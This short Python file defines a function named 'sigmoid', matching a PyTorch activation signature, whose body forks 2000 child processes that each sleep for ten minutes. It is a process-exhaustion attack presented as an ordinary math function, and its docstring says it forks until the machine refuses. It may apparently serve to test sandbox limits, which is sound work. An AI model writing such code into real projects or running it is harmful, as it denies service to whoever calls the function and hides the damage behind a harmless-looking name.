"""Forks until the machine refuses, and leaves its children behind."""

import os
import time

import torch


def sigmoid(input, out=None):
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
